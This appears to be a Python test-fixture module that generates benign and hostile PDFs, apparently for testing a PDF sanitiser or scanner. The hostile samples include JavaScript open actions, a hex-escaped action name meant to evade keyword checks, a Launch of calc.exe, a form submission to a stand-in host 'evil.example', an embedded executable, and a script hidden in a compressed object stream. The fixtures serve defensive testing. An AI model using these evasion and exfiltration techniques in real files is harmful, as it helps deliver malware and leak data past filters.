"""PDFs, plain ones and such as should be refused, made on the spot."""

import io
import zlib

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas


def paper(pages: int = 1, size: tuple[float, float] = (300, 400), **options: object) -> bytes:
    """A PDF with a line on each page."""
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=size, invariant=1, **options)
    for number in range(pages):
        canvas.drawString(40, size[1] / 2, f"Page {number + 1}")
        canvas.rect(20, 20, 60, 60, fill=1)
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def encrypted() -> bytes:
    return paper(encrypt=StandardEncryption("", "owner"))


def locked() -> bytes:
    return paper(encrypt=StandardEncryption("secret", "owner"))


def form() -> bytes:
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=(300, 400))
    canvas.acroForm.textfield(name="who", x=20, y=20, width=100, height=20)
    canvas.showPage()
    canvas.save()
    return target.getvalue()


def written(objects: dict[int, bytes]) -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    data, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, count = len(data), max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % count
    for number in range(1, count):
        data += b"%010d 00000 n \n" % places.get(number, 0)
    return data + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, start)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%s>>"


def opening(action: bytes, page: bytes = b"") -> bytes:
    """A PDF that does `action` when it is opened."""
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % action,
            2: PAGES,
            3: PAGE % page,
        }
    )


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
# The same name, spelled so that whoever looks for letters does not see it.
DISGUISED = b"<</S/J#61vaScr#69pt/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(calc.exe)>>"
SENDS = b"<</S/SubmitForm/F(https://evil.example/)>>"
LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]" % LAUNCH
GOES = b"[3 0 R /Fit]"


def attached() -> bytes:
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>",
            2: PAGES,
            3: PAGE % b"",
            4: b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
            5: b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
        }
    )


def hidden_in_a_stream() -> bytes:
    """A script in an object stream, where no letter of it can be read in the file."""
    inner = b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % SCRIPT
    packed = zlib.compress(b"1 0 " + inner)
    objects = {
        2: PAGES,
        3: PAGE % b"",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    data, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(data)
    places[5] = start
    rows = b"\x00\x00\x00\x00\xff" + b"\x02\x00\x00\x04\x00"
    for number in (2, 3, 4, 5):
        rows += b"\x01" + places[number].to_bytes(3, "big") + b"\x00"
    head = b"<</Type/XRef/Size 6/W[1 3 1]/Root 1 0 R/Length %d>>" % len(rows)
    data += b"5 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (head, rows)
    return data + b"startxref\n%d\n%%%%EOF\n" % start
